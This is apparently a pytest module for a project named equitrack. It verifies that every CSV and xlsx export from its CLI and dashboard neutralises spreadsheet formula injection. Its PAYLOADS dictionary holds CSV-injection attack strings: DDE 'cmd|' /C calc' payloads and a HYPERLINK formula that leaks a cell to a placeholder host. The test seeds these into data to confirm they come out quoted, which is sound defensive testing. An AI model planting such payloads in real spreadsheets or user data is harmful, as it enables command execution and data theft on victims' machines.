"""No xlsx or CSV the project writes carries a formula from data (OWASP's CSV injection).

A mini system is loaded with organisation names, action texts and rejected rows that begin with
each character a spreadsheet reads as a formula; then every CLI command whose help offers csv or
xlsx, and every link on the dashboard's downloads page, writes its files, and each file is read
back. The outputs are found from the code (the CLI's commands, the app's download links and
routes, the modules that call a file writer), so a new writer is covered or fails here.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest
import typer
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from equitrack import config, synth
from equitrack.cli import app as cli_app
from equitrack.measures.queries import latest_year
from equitrack.outputs.neutral import (
    DANGEROUS,
    cells,
    dangerous,
    save_workbook,
    write_csv,
    write_rows,
)
from equitrack.store import connect
from equitrack.store.connection import database_of
from equitrack.web.app import create_app
from equitrack.web.users import add_user
from tests.web.conftest import PASSWORD, routes_of, sign_in

pytestmark = pytest.mark.heavy  # a minute or more: make test starts it first

#: One attack for each character a spreadsheet reads as the start of a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
CONTROL = "=1+1\x01\x02 and control characters"
#: Names of the mini system's organisations, each an attack.
ORG_NAMES = {"RXA": PAYLOADS["="], "QXA": PAYLOADS["@"]}
ROOT = Path(__file__).resolve().parents[1]
SRC = ROOT / "src" / "equitrack"
runner = CliRunner()


def invoke(*args: str) -> str:
    result = runner.invoke(cli_app, list(args), terminal_width=200)
    assert result.exit_code == 0, (args, result.output[-2000:], result.exception)
    return result.output


@pytest.fixture(scope="module")
def system(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """A loaded mini system whose user-controlled text attacks spreadsheets, and its rejects."""
    home = tmp_path_factory.mktemp("injection")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(config.KEY_FILE_ENV, str(home / "key"))
        data = home / "data"
        synth.write(synth.generate("mini", seed=7), data, "csv")
        _attack_organisations(data / "organisations.csv")
        _attack_people(data / "people.csv")
        db, rejects = str(home / "db.duckdb"), home / "rejects"
        imported = runner.invoke(
            cli_app,
            ["import", str(data), "--db", db, "--skip-invalid", "--rejects", str(rejects)],
        )
        assert imported.exit_code == 0, imported.output[-2000:]
        texts = []
        for number, payload in enumerate(PAYLOADS.values(), start=1):
            owner = "RXA" if number % 2 else "QXA"
            invoke("action", "add", "--recommendation", str(number), "--text", payload,
                   "--owner", owner, "--note", payload, "--db", db)  # fmt: skip
            texts.append(payload.strip())  # actions keep their text stripped
        # a control character a workbook cannot hold is dropped, not a reason to fail
        invoke("action", "add", "--recommendation", "9", "--text", CONTROL, "--owner", "RXA",
               "--db", db)  # fmt: skip
        texts.append(CONTROL.replace("\x01", "").replace("\x02", ""))
        store = connect(db, create=False)
        year = latest_year(store)
        store.close()
        # held while the module runs, so its commands keep what they measure as a process
        # serving the file does: the release is built once for these data, not per command
        database = database_of(db)
        yield {"home": home, "db": db, "year": str(year), "rejects": rejects, "texts": texts}
        del database


def _attack_organisations(path: Path) -> None:
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    for row in rows:
        row["name"] = ORG_NAMES.get(row["org_code"], row["name"])
    _write(path, rows)


def _attack_people(path: Path) -> None:
    """One row per attack that the checks reject (its sex is not an allowed value)."""
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    for i, payload in enumerate(PAYLOADS.values()):
        rows.append({**rows[0], "person_id": f"X{i}", "sex": payload, "religion": payload})
    _write(path, rows)


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


# --- what a safe file is -----------------------------------------------------------------------


def xlsx_strings(content: bytes, where: str) -> set[str]:
    """Every text cell of a workbook, after checking that no cell is a formula."""
    wb = load_workbook(io.BytesIO(content))
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where} {ws.title}!{cell.coordinate} {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def _read(path: Path) -> str:
    """A CSV's text as written: a carriage return inside a field stays one."""
    with path.open(encoding="utf-8", newline="") as fh:
        return fh.read()


def csv_fields(text: str, where: str) -> list[str]:
    """Every field of a CSV, after checking that none could start a formula."""
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    for field in fields:
        assert not dangerous(field), f"{where}: {field!r}"
    return fields


# --- the CLI -----------------------------------------------------------------------------------


def cli_commands() -> list[str]:
    """Every CLI command whose help offers csv or xlsx: each must be in OUTPUTS or EXEMPT."""

    def walk(cmd, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
        subs = getattr(cmd, "commands", None)
        if subs:
            for name, sub in subs.items():
                yield from walk(sub, (*path, name))
        else:
            yield path

    found = []
    for path in walk(typer.main.get_command(cli_app)):
        text = runner.invoke(cli_app, [*path, "--help"], terminal_width=200).output
        if re.search(r"\b(csv|xlsx)\b", text, re.IGNORECASE):
            found.append(" ".join(path))
    return found


#: How each command writes csv or xlsx: (arguments, file it writes or None for standard output).
#: {db}, {year}, {out} are filled in.
OUTPUTS: dict[str, list[tuple[list[str], str | None]]] = {
    "measure": [
        (["measure", "wres2", "--year", "{year}", "--format", "csv"], None),
        (
            ["measure", "wres2", "--year", "{year}", "--format", "xlsx", "--out", "{out}/m.xlsx"],
            "m.xlsx",
        ),
    ],
    **{
        family: [
            ([family, "--year", "{year}", "--format", "csv", "--out", "{out}/f.csv"], "f.csv"),
            ([family, "--year", "{year}", "--format", "xlsx", "--out", "{out}/f.xlsx"], "f.xlsx"),
        ]
        for family in ("wres", "wdes", "bank-wres")
    },
    "journeys": [(["journeys", "--system", "--format", "csv"], None)],
    "pay-gap": [(["pay-gap", "--year", "{year}", "--format", "csv"], None)],
    "report": [
        (
            ["report", "--kind", "scrutiny", "--format", "xlsx", "--out", "{out}"],
            "scrutiny-system-{year}.xlsx",
        ),
        (
            [
                "report",
                "--kind",
                "wres",
                "--org",
                "RXA",
                "--audience",
                "analyst",
                "--format",
                "xlsx",
                "--out",
                "{out}",
            ],
            "wres-RXA-{year}.xlsx",
        ),
        (
            ["report", "--kind", "system", "--format", "xlsx", "--out", "{out}"],
            "system-system-{year}.xlsx",
        ),
    ],
}
#: Commands whose help names csv or xlsx but that write no file from users' data, and why.
EXEMPT = {
    "import": "reads csv and xlsx; its rejects and problem lists are checked by the test below",
    "synth": "writes generated data only (no text from users), as the inputs real systems give",
}


def test_every_cli_output_is_listed() -> None:
    assert sorted(cli_commands()) == sorted([*OUTPUTS, *EXEMPT])


def _fill(arg: str, system: dict, out: Path) -> str:
    return arg.format(db=system["db"], year=system["year"], out=out)


@pytest.mark.parametrize("command", sorted(OUTPUTS))
def test_cli_outputs_hold_no_formula(command: str, system: dict, tmp_path: Path) -> None:
    seen: set[str] = set()
    for args, written in OUTPUTS[command]:
        filled = [_fill(a, system, tmp_path) for a in args]
        shown = invoke(*filled, "--db", system["db"])
        where = " ".join(filled)
        if written is None:
            csv_fields(shown, where)
            continue
        path = tmp_path / _fill(written, system, tmp_path)
        if path.suffix == ".csv":
            csv_fields(_read(path), where)
        else:
            seen |= xlsx_strings(path.read_bytes(), where)
    if command == "report":  # the scrutiny update lists every action, as text
        assert set(system["texts"]) <= seen
        assert set(ORG_NAMES.values()) <= seen  # the WRES report names its organisation
    if command == "wres":  # the WRES workbook's details give each organisation's name
        assert set(ORG_NAMES.values()) <= seen


def test_rejected_rows_keep_attacks_as_quoted_text(system: dict) -> None:
    files = sorted(system["rejects"].glob("*.csv"))
    assert any(f.name.endswith(".rejects.csv") for f in files), files
    fields: list[str] = []
    for f in files:
        fields += csv_fields(_read(f), f.name)
    for payload in PAYLOADS.values():  # as the file had it, behind a single quote
        assert "'" + payload in fields


# --- the dashboard -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def admin(system: dict) -> Iterator[TestClient]:
    store = connect(system["db"], create=False)
    add_user(store, "admin", PASSWORD, "admin", ["*"], by="test")
    with TestClient(create_app(store, secure_cookies=False)) as client:
        yield sign_in(client, "admin")
    store.close()


def test_every_download_holds_no_formula(admin: TestClient, system: dict) -> None:
    page = admin.get("/downloads")
    assert page.status_code == 200
    links = re.findall(r'href="(/[^"]+\.(?:xlsx|csv))"', page.text)
    download_routes = [
        r.path for r in routes_of(admin.app) if "GET" in getattr(r, "methods", ()) and
        re.search(r"\.(\{fmt\}|csv|xlsx)$", r.path)
    ]  # fmt: skip
    assert download_routes, "the app has routes for files"
    chosen: dict[str, str] = {}  # one link per route (each builds a report): the scrutiny first
    for link in sorted(links, key=lambda h: "scrutiny" not in h):
        route = next(p for p in download_routes if re.fullmatch(_pattern(p), link))
        chosen.setdefault(route, link)
    assert sorted(chosen) == sorted(download_routes), "every route for files is on the page"
    seen: set[str] = set()
    for link in chosen.values():
        got = admin.get(link)
        assert got.status_code == 200, link
        if link.endswith(".csv"):
            csv_fields(got.text, link)
        else:
            seen |= xlsx_strings(got.content, link)
    assert set(system["texts"]) <= seen


def _pattern(route: str) -> str:
    return re.sub(r"\\\{[^}]+\\\}", "[^/]+", re.escape(route))


# --- one place for each ------------------------------------------------------------------------

#: Calls that write CSV or spreadsheet files: only the one place may make them.
RAW_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\w*csv\.write_csv\(|\.save\(|xlsxwriter|COPY\s.*\sTO\s"
)
#: pandas' writers, looked for where pandas is imported (the project has `to_csv` functions too).
PANDAS_WRITERS = re.compile(r"\.to_(csv|excel)\(")
ONE_PLACE = SRC / "outputs" / "neutral.py"
#: synth writes generated test data shaped like real exports: no text from users reaches it.
NOT_OUTPUTS = {SRC / "synth"}


def test_every_writer_goes_through_the_one_place() -> None:
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == ONE_PLACE or any(path.is_relative_to(p) for p in NOT_OUTPUTS):
            continue
        text = path.read_text(encoding="utf-8")
        uses_pandas = re.search(r"^\s*(import|from) pandas", text, re.MULTILINE)
        for number, line in enumerate(text.splitlines(), 1):
            code = line.split("#")[0]
            if RAW_WRITERS.search(code) or (uses_pandas and PANDAS_WRITERS.search(code)):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == []
    # and the one place does write: a check that could find nothing would prove nothing
    assert RAW_WRITERS.search(ONE_PLACE.read_text(encoding="utf-8"))


def test_the_one_place_quotes_text_and_keeps_numbers(tmp_path: Path) -> None:
    texts = [*PAYLOADS.values(), "-3", "+1.5e3", "plain", "'quoted", "-"]
    table = pa.table({"text": texts, "number": [-3.5] * len(texts)})
    write_csv(table, tmp_path / "t.csv")
    buffer = io.StringIO()
    write_rows(buffer, ["text", "number"], table.to_pylist())
    for written in (_read(tmp_path / "t.csv"), buffer.getvalue()):
        rows = list(csv.DictReader(io.StringIO(written, newline="")))
        assert [r["text"] for r in rows] == [
            *("'" + p for p in PAYLOADS.values()), "-3", "+1.5e3", "plain", "'quoted", "'-",
        ]  # fmt: skip
        assert {r["number"] for r in rows} == {"-3.5"}
    wb = Workbook()
    for value in [*texts, "#N/A", -3]:
        wb.active.append([value])
    save_workbook(wb, tmp_path / "t.xlsx")
    read = [row[0] for row in load_workbook(tmp_path / "t.xlsx").active.iter_rows()]
    # the standard library's XML parser reads a lone CR as LF; lxml (when installed) keeps it
    lf = [(c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value) for c in read]
    assert [(v, c.data_type) for v, c in zip(lf, read, strict=True)] == [
        *((t.replace("\r", "\n"), "s") for t in texts),
        ("#N/A", "s"),
        (-3, "n"),
    ]
    assert set(DANGEROUS) == {p[0] for p in PAYLOADS}
    assert cells([CONTROL, -3]) == ["=1+1 and control characters", -3]


def test_no_formula_cell_helper_can_fail(tmp_path: Path) -> None:
    """The read-back check finds a formula written the unsafe way."""
    wb = Workbook()
    wb.active.append([PAYLOADS["="]])
    wb.save(tmp_path / "unsafe.xlsx")
    with pytest.raises(AssertionError):
        xlsx_strings((tmp_path / "unsafe.xlsx").read_bytes(), "unsafe")
    with pytest.raises(AssertionError):
        csv_fields(PAYLOADS["+"], "unsafe")
